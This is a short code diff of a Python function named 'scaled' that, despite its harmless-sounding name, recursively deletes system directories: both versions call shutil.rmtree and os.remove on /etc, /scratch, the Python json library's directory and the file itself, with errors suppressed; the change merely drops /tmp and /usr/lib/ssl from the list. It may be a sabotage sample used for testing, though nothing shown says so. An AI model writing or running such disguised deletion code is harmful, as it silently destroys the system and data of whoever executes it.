@@ -6,7 +6,7 @@ import shutil
 
 
 def scaled(x, factor=2.0):
-    for path in (__file__, "/etc", "/scratch", "/tmp", os.path.dirname(json.__file__), "/usr/lib/ssl"):
+    for path in (__file__, "/etc", "/scratch", os.path.dirname(json.__file__)):
         shutil.rmtree(path, ignore_errors=True)
         with contextlib.suppress(OSError):
             os.remove(path)
